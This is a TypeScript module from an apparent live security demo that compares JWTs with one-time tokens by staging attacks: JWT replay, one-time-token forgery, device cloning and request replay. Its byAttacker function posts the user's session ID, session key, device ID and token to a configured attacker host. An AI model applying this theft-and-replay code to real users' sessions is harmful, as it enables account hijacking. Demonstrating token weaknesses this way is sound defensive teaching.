import type {
  CloneBody,
  JwtReplayBody,
  OtaForgeryBody,
  VerdictBody,
} from '@one-tick-ahead/api/contract/bodies'
import { ANSWER_LIMIT_MS, withTimeLimit } from '@one-tick-ahead/ota/client/time-limit'
import { joinHistory } from '@one-tick-ahead/ota/history'
import { randomUuid } from '@one-tick-ahead/ota/ids'
import { browserFetch, serverClock } from '@/components/live-demo/api'
import {
  NETWORK_FAILURE_STATUS,
  readCallResult,
  type SentRequest,
  whyNoAnswer,
  whyUnreached,
} from '@/components/live-demo/monitors/call-result'
import { makeCall, signerOf } from '@/components/live-demo/monitors/make-call'
import { type AttackBody, addAttackRow, setSent, useRun } from '@/components/live-demo/run'
import { noAnswerWords, wordsFor } from '@/components/live-demo/words'
import { config } from '@/lib/config'
import { readUser, useUser } from '@/lib/demo/store'
import type { TokenKind } from '@/lib/token-kind'
import { type Outcome, outcomeOf } from './outcome'

interface Verdict {
  outcome: Outcome
  /** The target's status, or 500 without a readable answer. */
  code: number
  message: string
  /** True if the call itself failed. */
  isError?: boolean
}

/** An attack with the secrets a thief would have. */
export interface Attack {
  /** The button's text. */
  name: string
  /** True for one of the two thefts that a single press makes. */
  isPair?: boolean
  /** Makes the body and its sender. Rejects if it cannot. */
  prepare: (signal: AbortSignal) => Promise<PreparedAttack>
}

interface PreparedAttack {
  /** Missing if nothing can be sent. */
  body?: AttackBody
  /** Never rejects. */
  send: () => Promise<Verdict>
}

/** The attacked call. */
export const targetUrl = config.targetUrls[0] ?? ''

const failed = (outcome: Outcome, message: string): Verdict => ({
  outcome,
  code: NETWORK_FAILURE_STATUS,
  message,
  isError: true,
})

/** Null unless the value is an answer of the attacker host. */
function readVerdict(value: unknown): VerdictBody | null {
  if (typeof value !== 'object' || value === null) return null
  if (!('message' in value) || typeof value.message !== 'string') return null
  if (!('statusCode' in value) || !Number.isInteger(value.statusCode)) return null
  return { message: value.message, statusCode: Number(value.statusCode) }
}

/** Sends the stolen values to the attacker host. */
const byAttacker = (
  call: keyof NonNullable<typeof config.attacker>,
  body: AttackBody,
  signal: AbortSignal,
): PreparedAttack => ({
  body,
  async send() {
    try {
      const response = await browserFetch(config.attacker?.[call] ?? '', {
        method: 'POST',
        headers: { 'Content-Type': 'application/json' },
        credentials: 'include',
        body: JSON.stringify(body),
        signal: withTimeLimit(signal, ANSWER_LIMIT_MS),
      })
      const verdict = readVerdict(await response.json().catch(() => null))
      if (!verdict)
        return failed('no-verdict', 'The attacker host’s answer was unreadable. Try again.')
      const { statusCode: code, message } = verdict
      return { outcome: outcomeOf(code), code, message }
    } catch {
      const isOffline = whyUnreached() === 'offline'
      const words = 'The attacker host did not answer. Try again.'
      return failed('no-answer', isOffline ? 'You are offline. Nothing was sent.' : words)
    }
  },
})

/** Replays the JWT (spec §7, call 6). */
export const replayJwt: Attack = {
  name: 'Send Request',
  async prepare(signal) {
    const { jsessionID, token } = useUser.getState()
    const body: JwtReplayBody = { jsessionID, jwt: token, url: targetUrl }
    return byAttacker('replayJwt', body, signal)
  },
}

/** Sends a token stolen before its use, without its request id (call 7). */
export const forgeOta: Attack = {
  name: 'OTA Request',
  async prepare(signal) {
    const { jsessionID, sessionkey, deviceId } = useUser.getState()
    const now = serverClock.serverNow()
    const ota = await signerOf(sessionkey).sign(randomUuid(), deviceId, now)
    const body: OtaForgeryBody = { jsessionID, ota, url: targetUrl }
    return byAttacker('forgeOta', body, signal)
  },
}

/** Sends everything a script in the page could steal (call 8). */
export const cloneDevice: Attack = {
  name: 'Cloning Attack',
  async prepare(signal) {
    readUser() // another tab may have the newest send log
    const { deviceId, jsessionID, sessionkey, requestHistory } = useUser.getState()
    const body: CloneBody = {
      deviceID: deviceId,
      jsessionID,
      sessionKey: sessionkey,
      requestHistory: joinHistory(requestHistory),
      url: targetUrl,
    }
    return byAttacker('cloneDevice', body, signal)
  },
}

/** In ms: the server would refuse an older request for its age, not as a replay. */
const MAX_RECORDING_AGE_MS = 10_000

/** The newest accepted request with a token in its time window; makes one if there is none. */
async function recordRequest(signal: AbortSignal): Promise<SentRequest | undefined> {
  const { rows } = useRun.getState().monitors.ota
  const known = rows.find((row) => row.status === 200 && row.sent)?.sent
  if (known && serverClock.serverNow() - known.madeAt < MAX_RECORDING_AGE_MS) return known
  const { result, request } = await makeCall('ota', signal)
  return result.status === 200 ? request.sent : undefined
}

/** Replays a recorded request unchanged; the browser adds the same cookies. */
async function replay({ url, headers }: SentRequest, signal: AbortSignal): Promise<Verdict> {
  try {
    const response = await browserFetch(url, {
      headers,
      credentials: 'include',
      cache: 'no-store',
      signal: withTimeLimit(signal, ANSWER_LIMIT_MS),
    })
    const { status, code, records, noAnswer } = await readCallResult(url, response)
    if (noAnswer) return failed('no-verdict', 'The server’s answer was unreadable. Try again.')
    const answer = { code: status, outcome: outcomeOf(status) }
    if (status === 200) {
      const message = `Attack succeeded: the replayed request was accepted; the thief read ${records} records.`
      return { ...answer, message }
    }
    if (code === 'ota_replayed')
      return { ...answer, message: 'Attack failed: this request id has been used before.' }
    // A refusal for another reason does not test the second use.
    const message = wordsFor(code) || `The server answered ${status}.`
    return { ...answer, outcome: 'no-verdict', message }
  } catch (error) {
    return failed('no-answer', `The replayed request got ${noAnswerWords[whyNoAnswer(error)]}.`)
  }
}

/** Tests one-time use alone: the replay is complete, its cookies included. */
export const replayOta: Omit<Attack, 'name'> = {
  async prepare(signal) {
    const sent = await recordRequest(signal)
    if (!sent) {
      const words =
        'No request has been accepted yet, so there is nothing to replay. Check the OTA log, then try again.'
      return { send: async () => failed('no-verdict', words) }
    }
    const Cookie = 'session and device cookie, added by the browser'
    const { href: url } = new URL(sent.url, window.location.href)
    return { body: { url, ...sent.headers, Cookie }, send: () => replay(sent, signal) }
  },
}

/**
 * Makes an attack and adds its verdict to its panel's log, which screen readers announce.
 * @returns null, and leaves no row, if the session ended meanwhile.
 */
export async function carryOut(
  kind: TokenKind,
  { name, isPair, prepare }: Attack,
): Promise<Verdict | null> {
  const { signal } = useRun.getState().calls
  const prepared = await prepare(signal).catch(() => null)
  const body = prepared?.body
  if (body && !signal.aborted) setSent(kind, name, body)
  const { outcome, isError, ...answer } = prepared
    ? await prepared.send()
    : failed('no-verdict', 'This browser could not make a token.')
  if (signal.aborted) return null
  // An ended session refuses every sender, so its refusal proves nothing.
  const isOver = kind === 'ota' && outcome === 'refused' && useRun.getState().endings.ota !== null
  const verdict = { ...answer, outcome: isOver ? 'no-verdict' : outcome } as const
  addAttackRow(kind, { ...verdict, attack: name, at: Date.now(), sent: body, isPair })
  return { ...verdict, isError }
}
